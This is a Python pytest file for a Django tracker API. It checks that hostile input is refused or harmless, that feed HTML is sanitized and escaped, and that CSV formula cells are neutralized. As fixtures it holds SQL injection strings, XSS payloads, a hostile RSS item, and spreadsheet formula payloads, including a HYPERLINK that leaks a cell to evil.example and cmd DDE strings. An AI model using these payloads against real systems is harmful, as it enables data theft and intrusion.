"""Hostile input: what a scraper, a prankster or a poisoned feed sends is
answered with a 4xx (or a harmless 200 for a search that is only odd
text), never a 5xx, and it leaves the data exactly as it was. Feed HTML
is sanitized before it is stored and escaped when shown; CSV cells a
spreadsheet would run as formulas are neutralized.

The list endpoints and their filters are read from the API's router, so
an endpoint added later is covered without touching this file.
"""

import csv
import hashlib
import io
import json

import pytest
from django.apps import apps
from django.urls import reverse

from tests import factories
from tracker.api.urls import router
from tracker.models import NewsArticle
from tracker.news.article_store import entries_store
from tracker.news.parse import feed_parse

LIST_ENDPOINTS = tuple(
    (f"/api/v1/{prefix}/", viewset)
    for prefix, viewset, _ in router.registry
    if getattr(viewset, "filterset_class", None)
)
ENDPOINT_IDS = [path for path, _ in LIST_ENDPOINTS]

SQL_INJECTIONS = (
    "' OR '1'='1",
    "1; DROP TABLE tracker_production; --",
    "x' UNION SELECT username, password FROM auth_user --",
    "1) OR 1=1 --",
    "'; DELETE FROM tracker_source WHERE ''='",
    "%' OR 1=1 --",
    "\\'; SELECT pg_sleep(5); --",
)
HTML_INJECTIONS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
)
HOSTILE_VALUES = SQL_INJECTIONS + HTML_INJECTIONS

SCRIPT = '<script>alert("owned")</script>'


@pytest.fixture(autouse=True)
def _no_throttle(settings):
    # Hundreds of requests from one address: throttling has its own tests.
    settings.TRACKER_API_ANON_RATE = "100000/min"


@pytest.fixture
def dataset(db):
    return factories.one_of_each()


def data_fingerprint() -> dict[str, tuple[int, str]]:
    """Per table of the tracker and of the users: the row count and a
    checksum over every row, so any insert, update or delete shows."""
    fingerprint = {}
    models = [*apps.get_app_config("tracker").get_models()]
    models.append(apps.get_model("auth", "User"))
    for model in models:
        rows = model.objects.order_by("pk").values_list()
        digest = hashlib.sha256()
        count = 0
        for row in rows:
            digest.update(repr(row).encode())
            count += 1
        fingerprint[model._meta.label] = (count, digest.hexdigest())
    return fingerprint


@pytest.fixture
def untouched(dataset):
    """Fails the test if the data changed while it ran."""
    before = data_fingerprint()
    yield
    assert data_fingerprint() == before


def _filters(viewset) -> list[str]:
    return sorted(viewset.filterset_class.base_filters)


# --- Oversized, unknown and malformed parameters ----------------------------


@pytest.mark.parametrize(("path", "viewset"), LIST_ENDPOINTS, ids=ENDPOINT_IDS)
def test_a_100_kb_search_is_refused_with_a_414(client, untouched, path, viewset):
    response = client.get(path, {"search": "intimacy " * 11_400})

    assert response.status_code == 414
    assert response["Content-Type"] == "application/json"
    assert "query string is longer" in response.json()["detail"]


@pytest.mark.parametrize(("path", "viewset"), LIST_ENDPOINTS, ids=ENDPOINT_IDS)
def test_an_unknown_filter_is_a_400_naming_it(client, untouched, path, viewset):
    response = client.get(path, {"ic_staus": "used"})

    assert response.status_code == 400
    assert list(response.json()) == ["ic_staus"]
    assert "Unknown parameter" in response.json()["ic_staus"][0]


@pytest.mark.parametrize(("path", "viewset"), LIST_ENDPOINTS, ids=ENDPOINT_IDS)
def test_injection_strings_in_every_filter_are_refused_or_harmless(
    client, untouched, path, viewset
):
    for name in _filters(viewset):
        for value in HOSTILE_VALUES:
            response = client.get(path, {name: value})

            assert response.status_code in (200, 400), (name, value)
            if response.status_code == 400:
                # A value that does not parse is refused by its name.
                assert name in response.json(), (name, value)
            elif name != "search":
                # Only free-text filters may take such a value at all, and
                # no record is named like an injection string.
                assert _listed(response) == 0, (name, value)


def _listed(response) -> int:
    """How many records a list answer holds: its count where the pagination
    gives one, else (news pages by cursor) the rows on its one page."""
    body = response.json()
    return body["count"] if "count" in body else len(body["results"])


@pytest.mark.parametrize(("path", "viewset"), LIST_ENDPOINTS, ids=ENDPOINT_IDS)
def test_an_injection_search_is_only_words_to_look_for(
    client, untouched, path, viewset
):
    """The search is a legitimate string: it may match records holding its
    words ("or", "1"), never more than the unfiltered list holds."""
    total = _listed(client.get(path, {"page_size": 100}))
    for value in HOSTILE_VALUES:
        response = client.get(path, {"search": value, "page_size": 100})

        assert response.status_code == 200, value
        assert _listed(response) <= total, value


@pytest.mark.parametrize(
    "query",
    ["search=%ff%fe", "%ff%fe=1", "search=caf%e9", "ordering=%c0%ae%c0%ae"],
)
@pytest.mark.parametrize(("path", "viewset"), LIST_ENDPOINTS, ids=ENDPOINT_IDS)
def test_a_query_string_that_is_not_utf8_is_a_400(
    client, untouched, path, viewset, query
):
    response = client.get(f"{path}?{query}")

    assert response.status_code == 400
    assert response.json() == {"detail": "The query string is not valid UTF-8."}


@pytest.mark.parametrize(("path", "viewset"), LIST_ENDPOINTS, ids=ENDPOINT_IDS)
def test_a_nul_byte_in_the_query_string_is_a_400(client, untouched, path, viewset):
    response = client.get(f"{path}?search=a%00b")

    assert response.status_code == 400


@pytest.mark.parametrize(("path", "viewset"), LIST_ENDPOINTS, ids=ENDPOINT_IDS)
@pytest.mark.parametrize("slug", ["%ff%fe", "caf%e9", "%c0%ae%c0%ae", "a%00b"])
def test_a_record_path_that_is_not_a_slug_is_a_json_404(
    client, untouched, path, viewset, slug
):
    response = client.get(f"{path}{slug}/")

    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"


def test_a_write_with_injection_strings_stores_them_as_plain_text(
    staff_user, untouched
):
    """Staff may type anything; it is stored as typed (parameterized SQL),
    and nothing else changes."""
    # The fingerprint is taken before the token exists, so this test writes
    # through a rolled-back savepoint and compares afterwards.
    from django.contrib.auth.models import Permission
    from django.db import transaction
    from rest_framework.test import APIClient

    from tracker.models import ApiToken, Production

    with transaction.atomic():
        staff_user.user_permissions.set(
            Permission.objects.filter(codename="add_production")
        )
        _, key = ApiToken.issue(staff_user)
        api = APIClient()
        api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
        source = factories.SourceFactory()
        response = api.post(
            "/api/v1/productions/",
            {
                "title": SQL_INJECTIONS[1],
                "kind": "feature",
                "ic_status": "used",
                "ic_evidence": "press_report",
                "ic_notes": HTML_INJECTIONS[0],
                "citations": [{"source": source.slug}],
            },
            format="json",
        )
        assert response.status_code == 201, response.content
        stored = Production.objects.get(slug=response.json()["slug"])
        assert stored.title == SQL_INJECTIONS[1]
        assert stored.ic_notes == HTML_INJECTIONS[0]
        transaction.set_rollback(True)


# --- Feed HTML: sanitized when stored, escaped when shown --------------------

HOSTILE_FEED = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Trade press</title>
<link>https://trade.example/</link><description>News</description>
<item>
  <title>Coordinators &lt;script&gt;alert(1)&lt;/script&gt; honoured</title>
  <link>https://trade.example/story/1</link>
  <guid>story-1</guid>
  <description><![CDATA[<p>Ita O'Brien <b>thanked</b>.</p>{SCRIPT}
    <img src="x" onerror="alert(1)"><a href="javascript:alert(1)">x</a>
    <iframe src="https://evil.example/"></iframe>
    <p onclick="alert(1)" style="color:red">styled</p>]]></description>
</item></channel></rss>""".encode()


@pytest.fixture
def stored_article(db):
    from tracker.models import Feed

    feed = Feed.objects.create(url="https://trade.example/rss", name="Trade press")
    parsed = feed_parse(HOSTILE_FEED, "application/rss+xml")
    (pk,) = entries_store(feed, parsed.entries).new
    return NewsArticle.objects.get(pk=pk)


def test_feed_html_is_sanitized_before_it_is_stored(stored_article):
    summary = stored_article.summary.lower()

    assert "<p>ita o'brien <b>thanked</b>.</p>" in summary
    for hostile in ("<script", "onerror", "javascript:", "<iframe", "onclick"):
        assert hostile not in summary, hostile
    assert "style=" not in summary
    assert "<script" not in stored_article.title.lower()


def test_the_article_admin_page_escapes_what_the_store_missed(
    admin_client, stored_article
):
    """A summary written by other means (an old row, a shell) still does not
    run in the admin."""
    NewsArticle.objects.filter(pk=stored_article.pk).update(
        summary=f"<p>Fine</p>{SCRIPT}<img src=x onerror=alert(1)>"
    )
    url = reverse("admin:tracker_newsarticle_change", args=[stored_article.pk])

    response = admin_client.get(url)

    assert response.status_code == 200
    page = response.content.decode()
    assert "<p>Fine</p>" in page
    assert SCRIPT not in page
    assert "onerror" not in page


@pytest.fixture
def hostile_production(db):
    return factories.ProductionFactory(
        title=f"Bad title {SCRIPT}",
        ic_notes='<img src=x onerror="alert(1)">',
    )


def test_the_admin_change_page_shows_markup_as_text(admin_client, hostile_production):
    url = reverse("admin:tracker_production_change", args=[hostile_production.pk])

    response = admin_client.get(url)

    assert response.status_code == 200
    page = response.content.decode()
    assert SCRIPT not in page
    assert "&lt;script&gt;alert(" in page
    assert "<img src=x" not in page


@pytest.mark.parametrize("page_name", ["case", "production"])
def test_the_public_pages_show_markup_as_text(client, hostile_production, page_name):
    factories.CreditFactory(production=hostile_production)
    if page_name == "case":
        url = reverse("web:case")
    else:
        url = reverse("web:production", args=[hostile_production.slug])

    response = client.get(url)

    assert response.status_code == 200
    page = response.content.decode()
    assert SCRIPT not in page
    assert "<img src=x" not in page
    if page_name == "production":
        assert "&lt;script&gt;alert(" in page


# --- CSV formula injection ---------------------------------------------------

FORMULAS = {
    "=": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _csv(response) -> list[dict]:
    body = b"".join(response.streaming_content) if response.streaming else None
    text = (body or response.content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("trigger", list(FORMULAS), ids=repr)
def test_csv_export_neutralizes_formulas(client, db, trigger):
    formula = FORMULAS[trigger]
    production = factories.ProductionFactory(title=formula, ic_notes=formula)

    response = client.get("/api/v1/productions/", {"format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    (row,) = _csv(response)
    assert row["slug"] == production.slug
    assert row["title"] == "'" + formula
    assert row["ic_notes"] == "'" + formula


def test_a_single_record_as_csv_is_neutralized_too(client, db):
    production = factories.ProductionFactory(title=FORMULAS["="])

    response = client.get(f"/api/v1/productions/{production.slug}/", {"format": "csv"})

    assert response.status_code == 200
    (row,) = _csv(response)
    assert row["title"] == "'" + FORMULAS["="]


def test_json_keeps_the_title_exactly_as_stored(client, db):
    """Neutralizing is for spreadsheets only: the JSON is the record."""
    production = factories.ProductionFactory(title=FORMULAS["="])

    response = client.get(f"/api/v1/productions/{production.slug}/")

    assert json.loads(response.content)["title"] == FORMULAS["="]
